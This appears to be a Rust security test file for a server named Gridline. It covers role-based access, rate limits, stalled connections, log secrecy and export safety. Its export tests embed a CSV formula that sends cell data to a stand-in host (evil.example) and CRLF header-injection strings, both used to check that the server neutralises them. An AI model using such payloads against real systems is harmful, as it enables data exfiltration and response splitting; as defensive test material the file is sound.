//! Access control and abuse: every endpoint × role × in/out-of-scope data, rate limits,
//! slow clients, and secrets kept out of logs.

use std::io::{Read, Write};
use std::process::{Command, Stdio};

use gridline_testkit::{new_case, Db, Phone, TestApp};
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

/// What a cell expects.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Want {
    /// 2xx.
    Allow,
    /// 401.
    Unauth,
    /// 403.
    Forbid,
    /// 404: out of scope, and existence must not leak.
    Hidden,
}
use Want::*;

const USERS: [&str; 7] = [
    "anonymous",
    "admin",
    "supervisor1",
    "inspector1",
    "inspector3",
    "roadchief1",
    "hotline1",
];

/// One row of the matrix: a request and what each of [`USERS`] gets.
struct Row {
    method: Method,
    path: String,
    body: Box<dyn Fn() -> Value>,
    want: [Want; 7],
}

fn row(
    method: Method,
    path: impl Into<String>,
    body: impl Fn() -> Value + 'static,
    want: [Want; 7],
) -> Row {
    Row {
        method,
        path: path.into(),
        body: Box::new(body),
        want,
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn access_control_matrix() {
    let app = TestApp::on(Db::Sqlite).await.unwrap();
    let z1 = app.zone("Z01");
    let z2 = app.zone("Z02");
    let (_, users) = app.get("/v1/users", Some(&app.login("admin").await)).await;
    let inspector3 = users
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["username"] == "inspector3")
        .map(|u| u["id"].as_str().unwrap().to_owned())
        .unwrap();
    // Data in each zone.
    let mut p1 = Phone::enrol(&app, "inspector1").await;
    let (case1, payload) = new_case(z1, 0, "event:0102");
    let op = p1.op("case.create@1", payload);
    p1.push(&app, &[op]).await;
    let mut p3 = Phone::enrol(&app, "inspector3").await;
    let (case2, payload) = new_case(z2, 1, "event:0102");
    let op = p3.op("case.create@1", payload);
    p3.push(&app, &[op]).await;
    let admin_token = app.login("admin").await;
    let (_, assets) = app
        .get(
            &format!("/v1/assets?zone_id={z2}&limit=1"),
            Some(&admin_token),
        )
        .await;
    let asset2 = assets["items"][0]["code"].as_str().unwrap().to_owned();
    let (_, periods) = app.get("/v1/periods", Some(&admin_token)).await;
    let period = periods[0]["id"].as_str().unwrap().to_owned();
    let (_, me) = app
        .get("/v1/me", Some(&app.login("inspector1").await))
        .await;
    let inspector1 = me["id"].as_str().unwrap().to_owned();
    let (_, zone1) = app
        .get(&format!("/v1/zones/{z1}"), Some(&admin_token))
        .await;
    let boundary = zone1["boundary"].clone();

    // The hotline operator (last) takes reports for every zone.
    let all = [Unauth, Allow, Allow, Allow, Allow, Allow, Allow];
    let admin_only = [Unauth, Allow, Forbid, Forbid, Forbid, Forbid, Forbid];
    let z1_data = [Unauth, Allow, Allow, Allow, Hidden, Allow, Allow];
    let z2_data = [Unauth, Allow, Allow, Hidden, Allow, Hidden, Allow];
    let takes_reports = [Unauth, Allow, Allow, Forbid, Forbid, Forbid, Allow];
    let none = || Value::Null;
    let z1_point = {
        let (a, b, c, d) = gridline_server::demo::zone_rect(0);
        ((b + d) / 2.0, (a + c) / 2.0)
    };
    let unique = || uuid::Uuid::new_v4().simple().to_string()[..8].to_owned();
    let b = boundary.clone();
    // Plans of zone 1 assigned to inspector1: one announced, one unannounced (confidential:
    // the zone's road chief and the hotline do not learn of it).
    let assignee = inspector1.clone();
    let plan_body = move |kind: &str| {
        json!({
            "name": format!("plan {}", uuid::Uuid::new_v4().simple()), "kind": kind,
            "rrule": "FREQ=DAILY", "dtstart": "2026-12-01T09:00", "window_minutes": 60,
            "zones": [z1], "assignees": [assignee.clone()]
        })
    };
    let mut plan_ids = Vec::new();
    for kind in ["periodic", "unannounced"] {
        let (status, plan) = app
            .post("/v1/plans", Some(&admin_token), &plan_body(kind))
            .await;
        assert_eq!(status, StatusCode::CREATED, "{plan}");
        plan_ids.push(plan["id"].as_str().unwrap().to_owned());
    }
    let (announced, unannounced) = (plan_ids[0].clone(), plan_ids[1].clone());
    let planners = [Unauth, Allow, Allow, Forbid, Forbid, Forbid, Forbid];
    let confidential = [Unauth, Allow, Allow, Allow, Hidden, Hidden, Hidden];
    let range = "from=2026-12-01T00:00:00Z&to=2027-01-01T00:00:00Z";
    let rows = vec![
        row(Method::GET, "/v1/plans", none, all),
        row(
            Method::POST,
            "/v1/plans",
            move || plan_body("periodic"),
            planners,
        ),
        row(Method::GET, format!("/v1/plans/{announced}"), none, z1_data),
        row(
            Method::GET,
            format!("/v1/plans/{announced}/occurrences?{range}"),
            none,
            z1_data,
        ),
        row(
            Method::GET,
            format!("/v1/plans/{unannounced}"),
            none,
            confidential,
        ),
        row(
            Method::GET,
            format!("/v1/plans/{unannounced}/occurrences?{range}"),
            none,
            confidential,
        ),
        row(
            Method::GET,
            format!("/v1/plans/{unannounced}/seal"),
            none,
            confidential,
        ),
        row(Method::GET, format!("/v1/occurrences?{range}"), none, all),
        row(Method::GET, "/v1/me", none, all),
        row(Method::GET, "/v1/zones", none, all),
        row(Method::GET, format!("/v1/zones/{z1}"), none, z1_data),
        row(Method::GET, format!("/v1/zones/{z2}"), none, z2_data),
        row(
            Method::GET,
            format!("/v1/zones/{z1}/coverage?{range}"),
            none,
            z1_data,
        ),
        row(
            Method::GET,
            format!("/v1/zones/{z2}/coverage?{range}"),
            none,
            z2_data,
        ),
        row(
            Method::PUT,
            format!("/v1/zones/{z1}"),
            move || json!({"code": "Z01", "name": "Zone 1", "boundary": b}),
            admin_only,
        ),
        row(
            Method::POST,
            "/v1/zones",
            move || json!({"code": unique(), "name": "New", "boundary": boundary}),
            admin_only,
        ),
        row(Method::GET, "/v1/roster", none, all),
        row(
            Method::POST,
            "/v1/roster",
            move || json!({"user_id": inspector1, "zone_id": z1, "role": "inspector"}),
            admin_only,
        ),
        row(Method::GET, "/v1/taxonomy", none, all),
        row(Method::PUT, "/v1/taxonomy", || json!([]), admin_only),
        row(Method::GET, "/v1/assets", none, all),
        row(Method::GET, format!("/v1/assets/{asset2}"), none, z2_data),
        row(
            Method::GET,
            format!("/v1/assets?zone_id={z2}"),
            none,
            z2_data,
        ),
        row(Method::GET, "/v1/rulebooks", none, all),
        row(Method::GET, "/v1/rulebooks/active", none, all),
        row(
            Method::POST,
            "/v1/rulebooks",
            || json!({"name": "v2", "effective_from": "2030-01-01T00:00:00Z", "rules": [{"code": "X", "description": "x", "points": 0.1, "sources": ["media"]}]}),
            admin_only,
        ),
        row(Method::GET, "/v1/periods", none, all),
        row(
            Method::POST,
            "/v1/periods",
            move || {
                let year = 2100 + (rand::random::<u16>() % 5000) as i32;
                json!({"code": format!("P{year}-{}", &uuid::Uuid::new_v4().simple().to_string()[..8]), "starts_at": format!("{year}-01-01T00:00:00Z"), "ends_at": format!("{year}-01-02T00:00:00Z")})
            },
            admin_only,
        ),
        row(
            Method::GET,
            format!("/v1/periods/{period}/coefficients"),
            none,
            all,
        ),
        row(
            Method::PUT,
            format!("/v1/periods/{period}/coefficients/{z1}"),
            || json!({"coefficient": 1.1}),
            admin_only,
        ),
        row(Method::GET, "/v1/audit", none, admin_only),
        row(Method::GET, "/v1/users", none, admin_only),
        row(
            Method::POST,
            "/v1/users",
            move || json!({"username": format!("u{}", uuid::Uuid::new_v4().simple()), "display_name": "X", "password": "long-enough-1", "roles": ["inspector"]}),
            admin_only,
        ),
        row(
            Method::PATCH,
            format!("/v1/users/{inspector3}"),
            || json!({"display_name": "Inspector three"}),
            admin_only,
        ),
        row(Method::GET, "/v1/inbox", none, all),
        row(Method::GET, "/v1/webhooks", none, admin_only),
        row(
            Method::POST,
            "/v1/webhooks",
            || json!({"url": "http://127.0.0.1:9/hook", "kinds": ["case.dispatched"]}),
            admin_only,
        ),
        row(Method::GET, "/v1/devices", none, all),
        row(Method::GET, "/v1/cases", none, all),
        row(Method::GET, format!("/v1/cases/{case1}"), none, z1_data),
        row(Method::GET, format!("/v1/cases/{case2}"), none, z2_data),
        row(Method::GET, "/v1/conflicts", none, all),
        // The ranking: supervisors and the zones' chiefs (see `the_ranking_shows_each_role_what_it_may_see`).
        row(
            Method::GET,
            format!("/v1/periods/{period}/ranking"),
            none,
            [Unauth, Allow, Allow, Forbid, Forbid, Allow, Forbid],
        ),
        row(
            Method::GET,
            format!("/v1/exports/ranking?period_id={period}&format=csv"),
            none,
            [Unauth, Allow, Allow, Forbid, Forbid, Allow, Forbid],
        ),
        row(
            Method::GET,
            "/v1/sync/rejections",
            none,
            [Unauth, Allow, Allow, Forbid, Forbid, Forbid, Forbid],
        ),
        // Sync needs a device-bound token; these are plain logins.
        row(
            Method::GET,
            "/v1/sync/pull?protocol=1",
            none,
            [Unauth, Forbid, Forbid, Forbid, Forbid, Forbid, Forbid],
        ),
        // Reports from outside the patrol: taken in by hotline operators and supervisors.
        row(
            Method::POST,
            "/v1/intake",
            move || {
                json!({"channel": "hotline", "external_ref": unique(), "category_code": "event:0102",
                       "address": "Gate", "location": {"lat": z1_point.0, "lon": z1_point.1},
                       "caller": {"phone": "13800000000"}})
            },
            takes_reports,
        ),
        row(
            Method::GET,
            format!("/v1/cases/{case1}/intake"),
            none,
            takes_reports,
        ),
        row(
            Method::GET,
            format!("/v1/cases/{case1}/duplicates"),
            none,
            z1_data,
        ),
        row(
            Method::GET,
            format!("/v1/cases/{case2}/duplicates"),
            none,
            z2_data,
        ),
    ];

    let mut tokens = vec![None];
    for user in &USERS[1..] {
        tokens.push(Some(app.login(user).await));
    }
    let mut cells = 0;
    let mut failures = Vec::new();
    for r in &rows {
        for (i, user) in USERS.iter().enumerate() {
            let body = (r.body)();
            let mut req = app.http.request(r.method.clone(), app.url(&r.path));
            if !body.is_null() {
                req = req.json(&body);
            }
            if let Some(t) = &tokens[i] {
                req = req.bearer_auth(t);
            }
            let resp = req.send().await.unwrap();
            let status = resp.status();
            let (_, body) = gridline_testkit::into_json(resp).await;
            let got = match status.as_u16() {
                200..=299 => Allow,
                401 => Unauth,
                403 => Forbid,
                404 => Hidden,
                _ => {
                    failures.push(format!(
                        "{} {} as {user}: unexpected {status} {body}",
                        r.method, r.path
                    ));
                    continue;
                }
            };
            if got != r.want[i] {
                failures.push(format!(
                    "{} {} as {user}: want {:?}, got {status} {body}",
                    r.method, r.path, r.want[i]
                ));
            }
            if status.is_client_error() {
                assert!(
                    body["code"].is_string(),
                    "error body for {} {}: {body}",
                    r.method,
                    r.path
                );
            }
            cells += 1;
        }
    }
    println!(
        "access matrix: {} endpoints x {} users = {cells} cells checked",
        rows.len(),
        USERS.len()
    );
    assert!(
        failures.is_empty(),
        "{} cells wrong:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Who sees which rows of the ranking, in JSON and in the export: admins and supervisors every
/// zone, zone chiefs (whose roster names no zone) every zone, road and section chiefs their own
/// zone's row, inspectors and squad members nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_ranking_shows_each_role_what_it_may_see() {
    let app = TestApp::on(Db::Sqlite).await.unwrap();
    let admin = app.login("admin").await;
    let (_, periods) = app.get("/v1/periods", Some(&admin)).await;
    let period = periods[0]["id"].as_str().unwrap().to_owned();
    let (_, zones) = app.get("/v1/zones", Some(&admin)).await;
    let mut every: Vec<String> = zones
        .as_array()
        .unwrap()
        .iter()
        .map(|z| z["code"].as_str().unwrap().to_owned())
        .collect();
    every.sort();
    let only = |code: &str| Some(vec![code.to_owned()]);
    let cases: [(&str, Option<Vec<String>>); 8] = [
        ("admin", Some(every.clone())),
        ("supervisor1", Some(every.clone())),
        ("zonechief1", Some(every.clone())),
        ("roadchief1", only("Z01")),
        ("sectionchief2", only("Z02")),
        ("inspector1", None),
        ("inspector3", None),
        ("squad1", None),
    ];
    for (user, want) in cases {
        let token = app.login(user).await;
        let (status, ranking) = app
            .get(&format!("/v1/periods/{period}/ranking"), Some(&token))
            .await;
        let resp = app
            .http
            .get(app.url(&format!(
                "/v1/exports/ranking?period_id={period}&format=csv"
            )))
            .bearer_auth(&token)
            .send()
            .await
            .unwrap();
        let export_status = resp.status();
        let csv = resp.text().await.unwrap();
        match want {
            None => {
                assert_eq!(status, StatusCode::FORBIDDEN, "{user}: {ranking}");
                assert_eq!(ranking["code"], "forbidden", "{user}");
                assert_eq!(export_status, StatusCode::FORBIDDEN, "{user}: {csv}");
            }
            Some(want) => {
                assert_eq!(status, StatusCode::OK, "{user}: {ranking}");
                let mut seen: Vec<String> = ranking["zones"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|z| z["zone_code"].as_str().unwrap().to_owned())
                    .collect();
                seen.sort();
                assert_eq!(seen, want, "{user}: JSON");
                assert_eq!(export_status, StatusCode::OK, "{user}");
                let mut exported: Vec<String> = csv
                    .lines()
                    .skip(1)
                    .map(|l| l.split(',').nth(1).unwrap().to_owned())
                    .collect();
                exported.sort();
                assert_eq!(exported, want, "{user}: export");
            }
        }
    }
    let (status, _) = app
        .get(&format!("/v1/periods/{period}/ranking"), None)
        .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn requests_beyond_the_rate_limit_get_429_with_retry_after() {
    let app = TestApp::builder()
        .config(|c| {
            c.limits.requests_per_minute = 60;
            c.limits.request_burst = 5;
        })
        .spawn()
        .await
        .unwrap();
    let token = app.login("inspector1").await;
    for _ in 0..5 {
        assert_eq!(app.get("/v1/me", Some(&token)).await.0, StatusCode::OK);
    }
    let resp = app
        .http
        .get(app.url("/v1/me"))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(
        resp.headers()["retry-after"]
            .to_str()
            .unwrap()
            .parse::<u64>()
            .unwrap()
            >= 1
    );
    let (_, body) = gridline_testkit::into_json(resp).await;
    assert_eq!(body["code"], "rate_limited");
    // Another user has their own budget.
    let other = app.login("inspector2").await;
    assert_eq!(app.get("/v1/me", Some(&other)).await.0, StatusCode::OK);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_clients_cannot_hold_the_server() {
    let app = TestApp::on(Db::Sqlite).await.unwrap();
    // Hundreds of connections that send half a request and stall.
    let mut stalled = Vec::new();
    for _ in 0..300 {
        let mut s = tokio::net::TcpStream::connect(app.addr).await.unwrap();
        tokio::io::AsyncWriteExt::write_all(
            &mut s,
            b"POST /v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n",
        )
        .await
        .unwrap();
        stalled.push(s);
    }
    // A normal client is still served, promptly.
    let start = std::time::Instant::now();
    let (status, _) = app.get("/healthz", None).await;
    assert_eq!(status, StatusCode::OK);
    assert!(start.elapsed() < std::time::Duration::from_secs(5));
    let token = app.login("admin").await;
    assert_eq!(app.get("/v1/zones", Some(&token)).await.0, StatusCode::OK);
    drop(stalled);
}

/// Runs the real binary with debug logs, logs in and uses the token, and searches everything
/// the server printed for the password, the tokens and the refresh token.
#[test]
fn no_secret_or_token_appears_in_logs() {
    let dir = tempfile::tempdir().unwrap();
    let port = free_port();
    let mut server = Command::new(env!("CARGO_BIN_EXE_gridline-under-test"))
        .args(["serve", "--demo", "en"])
        .env("GRIDLINE_DATA_DIR", dir.path())
        .env("GRIDLINE_LISTEN", format!("127.0.0.1:{port}"))
        .env("GRIDLINE_LOG", "trace")
        .env_remove("GRIDLINE_DATABASE_URL")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = server.stdout.take().unwrap();
    // The server prints its listening line once it is ready.
    let mut printed = Vec::new();
    let mut buf = [0u8; 4096];
    while !String::from_utf8_lossy(&printed).contains("listening on") {
        let n = stdout.read(&mut buf).unwrap();
        assert!(
            n > 0,
            "server exited: {}",
            String::from_utf8_lossy(&printed)
        );
        printed.extend_from_slice(&buf[..n]);
    }
    let rt = tokio::runtime::Runtime::new().unwrap();
    let (token, refresh) = rt.block_on(async {
        let http = reqwest::Client::new();
        let base = format!("http://127.0.0.1:{port}");
        let login: Value = http
            .post(format!("{base}/v1/auth/login"))
            .json(&json!({"username": "admin", "password": gridline_testkit::gridline_server::demo::DEMO_PASSWORD}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let token = login["access_token"].as_str().unwrap().to_owned();
        let refresh = login["refresh_token"].as_str().unwrap().to_owned();
        http.get(format!("{base}/v1/zones")).bearer_auth(&token).send().await.unwrap();
        http.post(format!("{base}/v1/auth/refresh")).json(&json!({"refresh_token": refresh})).send().await.unwrap();
        http.post(format!("{base}/v1/auth/login")).json(&json!({"username": "admin", "password": "wrong-secret-pw"})).send().await.unwrap();
        (token, refresh)
    });
    server.kill().unwrap();
    server.wait().unwrap();
    let mut logs = String::new();
    server
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut logs)
        .unwrap();
    let mut out = String::from_utf8_lossy(&printed).into_owned();
    stdout.read_to_string(&mut out).unwrap();
    let everything = format!("{logs}\n{out}");
    assert!(
        everything.contains("request"),
        "debug logs were produced: {everything}"
    );
    for secret in [token.as_str(), refresh.as_str(), "wrong-secret-pw"] {
        assert!(!everything.contains(secret), "a secret appears in the logs");
    }
    std::io::stdout().flush().unwrap();
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_exports_keep_formulas_inert() {
    let app = TestApp::on(Db::Sqlite).await.unwrap();
    let mut phone = Phone::enrol(&app, "inspector1").await;
    let formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")";
    let (case_id, mut payload) = new_case(app.zone("Z01"), 0, "event:0102");
    payload["description"] = json!(formula);
    let op = phone.op("case.create@1", payload);
    let (status, body) = phone.push(&app, &[op]).await;
    assert_eq!(status, StatusCode::OK, "{body}");

    let sup = app.login("supervisor1").await;
    let (status, csv_bytes) =
        crate::support::get_bytes(&app, "/v1/exports/cases?format=csv", &sup).await;
    assert_eq!(status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(csv_bytes.as_slice());
    let headers = reader.headers().unwrap().clone();
    let col = |key: &str| {
        headers
            .iter()
            .position(|h| h == crate::support::header(key))
            .unwrap()
    };
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let row = rows
        .iter()
        .find(|r| r[col("id")] == case_id.to_string())
        .expect("the case is exported");
    assert_eq!(
        &row[col("description")],
        format!("'{formula}"),
        "shown as text, not run"
    );
    // The API itself keeps the description as written.
    let (_, case) = app.get(&format!("/v1/cases/{case_id}"), Some(&sup)).await;
    assert_eq!(case["description"], formula);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn period_codes_cannot_break_download_headers() {
    let app = TestApp::on(Db::Sqlite).await.unwrap();
    let admin = app.login("admin").await;
    for code in ["P1\r\nX-Evil: 1", "P1\"; filename=evil.exe", "P 1", ""] {
        let (status, body) = app
            .post(
                "/v1/periods",
                Some(&admin),
                &json!({"code": code, "starts_at": "2101-01-01T00:00:00Z", "ends_at": "2101-02-01T00:00:00Z"}),
            )
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{code:?}: {body}");
        assert_eq!(body["details"]["path"], "code", "{body}");
    }
    let (status, body) = app
        .post(
            "/v1/periods",
            Some(&admin),
            &json!({"code": "2101年1月", "starts_at": "2101-01-01T00:00:00Z", "ends_at": "2101-02-01T00:00:00Z"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "letters of any script: {body}");

    // A code stored before codes were checked still downloads, under a harmless name.
    let mut tx = app.state.db.begin_write().await.unwrap();
    let old = gridline_testkit::gridline_server::store::reference::insert_period(
        tx.conn(),
        &gridline_testkit::gridline_server::model::PeriodSpan {
            code: "Q\r\nX-Evil: 1\"; a=b".into(),
            starts_at: time::macros::datetime!(2102-01-01 0:00 UTC),
            ends_at: time::macros::datetime!(2102-02-01 0:00 UTC),
        },
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();
    let supervisor = app.login("supervisor1").await;
    let resp = app
        .http
        .get(app.url(&format!(
            "/v1/exports/ranking?period_id={}&format=csv",
            old.id
        )))
        .bearer_auth(&supervisor)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert!(resp.headers().get("x-evil").is_none());
    let disposition = resp.headers()["content-disposition"].to_str().unwrap();
    assert_eq!(
        disposition,
        "attachment; filename=\"ranking-Q__X-Evil: 1__ a=b.csv\"; \
         filename*=UTF-8''ranking-Q%0D%0AX-Evil%3A%201%22%3B%20a%3Db.csv"
    );
}

/// The database (with its WAL files), the signing keys and the local photo store are the
/// server user's alone.
#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn data_files_are_private_to_the_server_user() {
    use std::os::unix::fs::PermissionsExt;
    let parent = tempfile::tempdir().unwrap();
    let data = parent.path().join("var").join("gridline");
    let data_dir = data.clone();
    let app = TestApp::builder()
        .config(move |c| {
            c.data_dir = data_dir;
            c.blob.backend = gridline_testkit::gridline_server::config::BlobBackend::Local;
        })
        .spawn()
        .await
        .unwrap();
    // A write, so the WAL is in use.
    let admin = app.login("admin").await;
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    for file in [
        "gridline.db",
        "gridline.db-wal",
        "gridline.db-shm",
        "keys.json",
    ] {
        assert_eq!(mode(&data.join(file)), 0o600, "{file}");
    }
    for dir in [parent.path().join("var"), data.clone(), data.join("blobs")] {
        assert_eq!(mode(&dir), 0o700, "{}", dir.display());
    }
    assert!(!admin.is_empty());
}
